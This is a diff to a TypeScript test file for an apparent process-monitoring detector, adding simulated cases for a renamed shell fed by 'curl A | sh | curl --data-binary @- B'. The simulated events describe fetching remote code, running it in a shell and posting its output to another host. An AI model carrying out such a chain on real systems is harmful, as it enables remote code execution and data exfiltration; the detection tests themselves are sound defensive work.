@@ -95,7 +95,7 @@ test('stays with the shell when the one above it has other ends', () => {
 });
 
 /** `curl A | sh | curl --data-binary @- B`: the second curl begins when the others have ended. */
-function fetchAndBring(from: string, to: string, filter = false): Scene {
+function fetchAndBring(from: string, to: string, { filter = false, renamed = false } = {}): Scene {
   const scene = new Scene();
   const curl = { path: '/usr/bin/curl', parentPid: 100 };
   scene.start({ pid: 100, path: '/usr/bin/bash', argv: ['bash', '/opt/sync/poll'], parentPid: 50 });
@@ -106,12 +106,16 @@ function fetchAndBring(from: string, to: string, filter = false): Scene {
     between.forEach((fd, slot) => {
       scene.stdio(102, slot as 0 | 1 | 2, fd, 5);
     });
-  } else scene.start({ pid: 102, parentPid: 100, path: '/usr/bin/dash', argv: ['sh'], stdio: between, at: 5 });
+  } else {
+    const [path, name] = renamed ? ['/opt/sync/x', 'x'] : ['/usr/bin/dash', 'sh'];
+    scene.start({ pid: 102, parentPid: 100, path, argv: [name], stdio: between, forkedAt: 4, at: 5 });
+    scene.start({ pid: 104, parentPid: 102, path: '/usr/bin/id', argv: ['id'], stdio: between, at: 60 });
+  }
   scene.start({ ...curl, pid: 103, argv: ['curl', '-s', '-d', '@-', to], stdio: [pipe(2), nullFd, nullFd], at: 5 });
   scene.map(101, 'libcrypto.so.3', 8);
   scene.map(103, 'libcrypto.so.3', 8);
   scene.tls(101, 10, helloBytes('curlAddress'), { address: from, port: 443 });
-  for (const pid of [101, 102]) scene.end(pid, 80 + pid);
+  for (const pid of [101, 102, 104]) if (!filter || pid !== 104) scene.end(pid, 80 + pid);
   scene.tls(103, 300, helloBytes('curlAddress'), { address: to, port: 443, socket: 'socket:9' });
   return scene;
 }
@@ -122,8 +126,12 @@ test('a shell whose commands one program fetches from where another brings its o
   assert.match(last?.legs.find(({ leg }) => leg === 'joined-shell')?.reasons[0] ?? '', /by way of \/usr\/bin\/curl/);
 });
 
+test('so is a renamed shell, which starts what it was told', () => {
+  assert.equal(fetchAndBring('10.20.0.2', '10.20.0.2', { renamed: true }).last?.actor, keyOf(102));
+});
+
 test('stays quiet when a loop of a shell only filters what is fetched and brought', () => {
-  assert.deepEqual(fetchAndBring('10.20.0.2', '10.20.0.2', true).verdicts, []);
+  assert.deepEqual(fetchAndBring('10.20.0.2', '10.20.0.2', { filter: true }).verdicts, []);
 });
 
 test('stays quiet when what a fetched script prints is sent to another place', () => {
